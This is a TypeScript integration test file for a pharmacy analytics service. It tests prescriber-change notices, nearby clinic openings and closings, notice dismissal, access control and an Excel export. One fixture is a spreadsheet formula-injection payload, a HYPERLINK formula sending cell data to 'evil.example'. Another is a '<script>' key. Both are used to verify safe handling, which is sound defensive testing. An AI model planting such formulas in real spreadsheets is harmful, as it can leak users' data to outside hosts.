import {
  comparisonRange,
  CONDITION_LABELS,
  noticePeriod,
  planByCode,
  prescriberChangesContracts,
  todayInJapan,
  type PrescriberChangesResponse,
  type PrescriberNoticesResponse,
} from '@pharmalytics/domain';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { upsertFacilities, type FacilityRow } from '../maps/facility-master.ts';
import { signInDemoMembers, type DemoMember } from '../testing/auth.ts';
import type { HttpClient } from '../testing/http-client.ts';
import { daysOf, institutionSheets, pharmacyCodeOf } from '../testing/institution-sheets.ts';
import { startTestApp, type TestApp } from '../testing/test-app.ts';
import { uploadAs } from '../testing/upload.ts';

const C = prescriberChangesContracts;
const CLINIC = { code: '4011000029', name: 'みどり内科クリニック' };
/** A new institution whose uploaded name is a formula. */
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const HOSTILE = { code: '4011000037', name: FORMULA_NAME };

/** The dashboard's notice period today: the last three whole months. */
const period = noticePeriod(todayInJapan());
const DAY_MS = 86_400_000;
const dayAfter = (day: string, days: number) =>
  new Date(Date.parse(`${day}T00:00:00Z`) + days * DAY_MS).toISOString().slice(0, 10);

/** A clinic of the facility master `north` metres north of a point. */
const clinicNear = (
  place: { latitude: number; longitude: number },
  sourceId: string,
  name: string,
  north: number,
): FacilityRow => ({
  sourceId,
  type: 'clinic',
  name,
  address: `福岡県福岡市中央区 ${name}`,
  latitude: Math.round((place.latitude + north / 111_320) * 1e6) / 1e6,
  longitude: place.longitude,
  prescriptionPatients: null,
  outpatients: 30,
  homecarePatients: 0,
  capacity: null,
  totalUsers: null,
  beds: null,
});

let t: TestApp;
let clients: Record<DemoMember, HttpClient>;
let facilityIds: Record<string, number>;

beforeAll(async () => {
  t = await startTestApp();
  // Store 1001 took a sheet of the clinic every day of the same period a year before, and one
  // every other day now: a fall of about half, a notice on the dashboard. A new institution with
  // a formula for a name sent three sheets in the period.
  const code = await pharmacyCodeOf(t, '1001');
  const lines = [
    ...institutionSheets(code, CLINIC, daysOf(comparisonRange(period, 2))),
    ...institutionSheets(
      code,
      CLINIC,
      daysOf(period).filter((_, i) => i % 2 === 0),
    ),
    ...institutionSheets(code, HOSTILE, daysOf(period).slice(0, 3)),
  ];
  const reply = await uploadAs(t, '1001', lines);
  expect(reply.body).toMatchObject({ status: 'loaded', rowsRefused: 0 });

  // The facility master around 1001: three clinics listed from long ago; a later load, on the
  // period's last day, lists one of them and a new one, and leaves the third out (closed).
  const store = await t.db
    .selectFrom('stores')
    .select(['latitude', 'longitude'])
    .where('store_code', '=', '1001')
    .executeTakeFirstOrThrow();
  const place = { latitude: Number(store.latitude), longitude: Number(store.longitude) };
  const stays = clinicNear(place, 'radar:stays', '天神北クリニック', 300);
  const closes = clinicNear(place, 'radar:closes', '天神南内科医院', 200);
  const opens = clinicNear(place, 'radar:opens', '天神新町クリニック', 400);
  const longAgo = dayAfter(period.from, -800);
  const lastListed = dayAfter(period.from, 10);
  await upsertFacilities(t.db, 'radar', [stays, closes], longAgo);
  await upsertFacilities(t.db, 'radar', [stays, closes], lastListed);
  await upsertFacilities(t.db, 'radar', [stays, opens], period.to);
  const rows = await t.db
    .selectFrom('facility_master')
    .select(['id', 'source_id', 'first_seen_on', 'last_seen_on'])
    .where('source', '=', 'radar')
    .orderBy('source_id')
    .execute();
  expect(rows.map((r) => [r.source_id, String(r.first_seen_on), String(r.last_seen_on)])).toEqual([
    ['radar:closes', longAgo, lastListed],
    ['radar:opens', period.to, period.to],
    ['radar:stays', longAgo, period.to],
  ]);
  facilityIds = Object.fromEntries(rows.map((r) => [r.source_id, r.id]));

  // The basic plan's corporation moves to the advanced plan: its administrator follows the
  // changes of its own stores, and only those.
  await t.db
    .updateTable('corporations')
    .set({ plan_id: planByCode('advanced')!.id })
    .where('corporation_code', '=', '100003')
    .execute();
  clients = await signInDemoMembers(t);
}, 120_000);
afterAll(() => t.close());

const noticesOf = async (client: HttpClient) => {
  const reply = await client.get<PrescriberNoticesResponse>(C.notices.path);
  expect(reply.status).toBe(200);
  return reply.body;
};
const keyOf = (kind: string, subject: string) =>
  `1001/${kind}/${subject}/${period.from}/${period.to}`;
const FALLING_KEY = keyOf('falling', CLINIC.code);

describe('the radar’s clinics opened and closed nearby', () => {
  it('finds the clinic a later load of the master left out, and the one it added', async () => {
    const reply = await clients.admin.get<PrescriberChangesResponse>(
      `${C.prescriberChanges.path}?${new URLSearchParams({ ...period, storeCodes: '1001' })}`,
    );
    expect(reply.status).toBe(200);
    const [store] = reply.body.stores;
    expect(store!.closings).toEqual([
      {
        facilityId: facilityIds['radar:closes'],
        name: '天神南内科医院',
        address: '福岡県福岡市中央区 天神南内科医院',
        distanceMeters: 200,
        lastSeenOn: dayAfter(period.from, 10),
      },
    ]);
    expect(store!.openings.map((o) => [o.name, o.distanceMeters, o.firstSeenOn])).toEqual([
      ['天神新町クリニック', 400, period.to],
    ]);
  });
});

describe('the dashboard’s prescriber notices', () => {
  it('name the falling clinic, then the clinics closed and opened nearby, each with its key', async () => {
    const answer = await noticesOf(clients.admin);
    expect(answer.period).toEqual(period);
    const at = { storeCode: '1001', storeName: 'はかた薬局 天神店' };
    expect(answer.notices).toEqual([
      {
        key: FALLING_KEY,
        ...at,
        kind: 'falling',
        text: expect.stringMatching(
          /^みどり内科クリニックからの処方箋が前年同期比 −(49|50)%（月30枚→15枚）$/,
        ),
      },
      {
        key: keyOf('closing', `f${facilityIds['radar:closes']}`),
        ...at,
        kind: 'closing',
        text: `店舗から200mの天神南内科医院が医療機関の一覧からなくなりました（閉院・廃止とみられます。最終確認 ${dayAfter(period.from, 10)}）`,
      },
      {
        key: keyOf('opening', `f${facilityIds['radar:opens']}`),
        ...at,
        kind: 'opening',
        text: `天神新町クリニックが店舗から400mに開設されました（${period.to} 確認）`,
      },
    ]);
  });

  it('hide a notice the member closed, for that member only', async () => {
    const dismissal = { storeCode: '1001', key: FALLING_KEY };
    for (let i = 0; i < 2; i++) {
      const reply = await clients.admin.request('POST', C.dismissNotice.path, { body: dismissal });
      expect(reply.status).toBe(204);
    }
    const kinds = async (client: HttpClient) =>
      (await noticesOf(client)).notices.map((n) => n.kind);
    expect(await kinds(clients.admin)).toEqual(['closing', 'opening']);
    // Another administrator of the corporation still sees it.
    expect(await kinds(clients.sysadmin)).toEqual(['falling', 'closing', 'opening']);
    const stored = await t.db
      .selectFrom('prescriber_notice_dismissals')
      .select(['notice_key'])
      .execute();
    expect(stored).toEqual([{ notice_key: FALLING_KEY }]);
  });

  it('cannot be closed by a member of another corporation, nor on its stores', async () => {
    // The other corporation (now on the advanced plan) has no notice and no store 1001.
    expect((await noticesOf(clients.basic)).notices).toEqual([]);
    const foreign = await clients.basic.request('POST', C.dismissNotice.path, {
      body: { storeCode: '1001', key: FALLING_KEY },
    });
    expect(foreign.status).toBe(404);
    const own = await clients.admin.request('POST', C.dismissNotice.path, {
      body: { storeCode: '3001', key: `3001/falling/${CLINIC.code}/${period.from}/${period.to}` },
    });
    expect(own.status).toBe(404);
    expect((await noticesOf(clients.sysadmin)).notices[0]!.key).toBe(FALLING_KEY);
  });

  it('are for administrators of the advanced plan, with the anti-forgery token', async () => {
    const body = { storeCode: '1001', key: FALLING_KEY };
    const dismiss = C.dismissNotice.path;
    expect((await clients.user.get(C.notices.path)).status).toBe(403);
    expect((await clients.free.get(C.notices.path)).status).toBe(403);
    expect((await clients.user.request('POST', dismiss, { body })).status).toBe(403);
    expect((await clients.free.request('POST', dismiss, { body })).status).toBe(403);
    expect((await t.client().get(C.notices.path)).status).toBe(401);
    const noToken = await clients.sysadmin.request('POST', dismiss, { body, csrf: false });
    expect(noToken.status).toBe(403);
    const badKey = await clients.sysadmin.request('POST', dismiss, {
      body: { storeCode: '1001', key: '1001/falling/<script>' },
    });
    expect(badKey.status).toBe(400);
    expect(badKey.body.errors).toEqual([{ path: 'key', message: 'お知らせを特定できません' }]);
    expect((await noticesOf(clients.sysadmin)).notices[0]!.key).toBe(FALLING_KEY);
  });
});

/** A row's values from column 1 (exceljs keeps index 0 empty). */
const rowValues = (ws: ExcelJS.Worksheet, n: number) =>
  (ws.getRow(n).values as ExcelJS.CellValue[]).slice(1);
/** The rows under the header (row 8, below the conditions block and a blank row). */
const bodyRows = (ws: ExcelJS.Worksheet) =>
  Array.from({ length: ws.rowCount - 8 }, (_, i) => rowValues(ws, 9 + i));

describe('GET /v3/xlsx/prescriber_changes', () => {
  const query = new URLSearchParams({ ...period, storeCodes: '1001', floor: '10' });
  let json: PrescriberChangesResponse;
  let book: ExcelJS.Workbook;
  let disposition: string;
  beforeAll(async () => {
    json = (
      await clients.admin.get<PrescriberChangesResponse>(`${C.prescriberChanges.path}?${query}`)
    ).body;
    const reply = await clients.admin.get(`${C.prescriberChangesXlsx.path}?${query}`);
    expect(reply.status).toBe(200);
    expect(reply.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    disposition = decodeURIComponent(reply.headers.get('content-disposition')!);
    book = new ExcelJS.Workbook();
    await book.xlsx.load(reply.bytes as unknown as ArrayBuffer);
  });

  it('opens every sheet with the conditions block, named in Japanese', () => {
    expect(disposition).toContain(`Pharmalytics_処方元の変化_${period.from}_${period.to}.xlsx`);
    expect(book.worksheets.map((ws) => ws.name)).toEqual([
      '処方元の変化',
      '注目すべき変化',
      '近隣の開設',
      '近隣の閉院・廃止',
    ]);
    const { yearAgo, previous } = json.periods;
    const slash = (d: string) => d.replaceAll('-', '/');
    for (const ws of book.worksheets) {
      const block = Object.fromEntries([1, 2, 3, 4, 5, 6].map((n) => rowValues(ws, n)));
      expect(block[CONDITION_LABELS.corporation]).toBe('株式会社博多ファーマシー');
      expect(block[CONDITION_LABELS.stores]).toBe('はかた薬局 天神店（1店舗）');
      expect(block[CONDITION_LABELS.period]).toBe(`${slash(period.from)}〜${slash(period.to)}`);
      expect(block[CONDITION_LABELS.comparison]).toBe(
        `${slash(yearAgo.from)}〜${slash(yearAgo.to)}（前年同期）`,
      );
      expect(block[CONDITION_LABELS.filters]).toBe(
        `下限: 月10枚 / 前期: ${slash(previous.from)}〜${slash(previous.to)}`,
      );
      expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 8 });
    }
  });

  it('holds the call’s changes, notices, openings and closings cell for cell', () => {
    const changes = book.getWorksheet('処方元の変化')!;
    expect(rowValues(changes, 8)).toEqual([
      '店舗コード',
      '店舗',
      '変化',
      '医療機関コード',
      '医療機関',
      '処方箋枚数（当期）',
      '処方箋枚数（前年同期）',
      '処方箋枚数（前期）',
      '売上（円）（当期）',
      '売上（円）（前年同期）',
      '前年同期比（%）',
      '前期比（%）',
      '最終受付日',
    ]);
    const [store] = json.stores;
    expect(store!.changes.map((c) => c.kind)).toEqual(['falling', 'new']);
    expect(bodyRows(changes)).toEqual(
      store!.changes.map((c) =>
        [
          '1001',
          'はかた薬局 天神店',
          { falling: '減少', new: '新規' }[c.kind as 'falling' | 'new'],
          c.institutionCode,
          c.institutionName,
          c.current.sheets,
          c.yearAgo.sheets,
          c.previous.sheets,
          c.current.salesYen,
          c.yearAgo.salesYen,
          c.changeYearAgo,
          c.changePrevious,
          c.lastSeen,
        ].map((v) => (v === null ? undefined : v)),
      ),
    );
    const first = changes.getRow(9);
    expect(first.getCell(6).numFmt).toBe('#,##0"枚"');
    expect(first.getCell(9).numFmt).toBe('#,##0"円"');
    expect(first.getCell(11).numFmt).toBe('+0.0"%";-0.0"%";0.0"%"');

    expect(bodyRows(book.getWorksheet('注目すべき変化')!)).toEqual(
      json.notices.map((n) => [
        n.storeCode,
        n.storeName,
        { falling: '減少', lost: '途絶', opening: '開設', closing: '閉院・廃止' }[n.kind],
        n.text,
      ]),
    );
    expect(bodyRows(book.getWorksheet('近隣の開設')!)).toEqual(
      store!.openings.map((o) => [
        '1001',
        'はかた薬局 天神店',
        o.name,
        o.address,
        o.distanceMeters,
        o.firstSeenOn,
      ]),
    );
    expect(bodyRows(book.getWorksheet('近隣の閉院・廃止')!)).toEqual(
      store!.closings.map((c) => [
        '1001',
        'はかた薬局 天神店',
        c.name,
        c.address,
        c.distanceMeters,
        c.lastSeenOn,
      ]),
    );
  });

  it('writes the formula-like institution name as a text cell, never a formula', () => {
    const changes = book.getWorksheet('処方元の変化')!;
    const row = bodyRows(changes).findIndex((r) => r[2] === '新規');
    const cell = changes.getRow(9 + row).getCell(5);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(FORMULA_NAME);
    expect(cell.formula).toBeUndefined();
    expect(cell.numFmt).toBe('@');
  });

  it('is refused below the advanced plan and to a role user outside its stores', async () => {
    expect((await clients.free.get(`${C.prescriberChangesXlsx.path}?${query}`)).status).toBe(403);
    const outside = await clients.user.get(
      `${C.prescriberChangesXlsx.path}?${new URLSearchParams({ ...period, storeCodes: '1003' })}`,
    );
    expect([403, 404]).toContain(outside.status);
  });
});
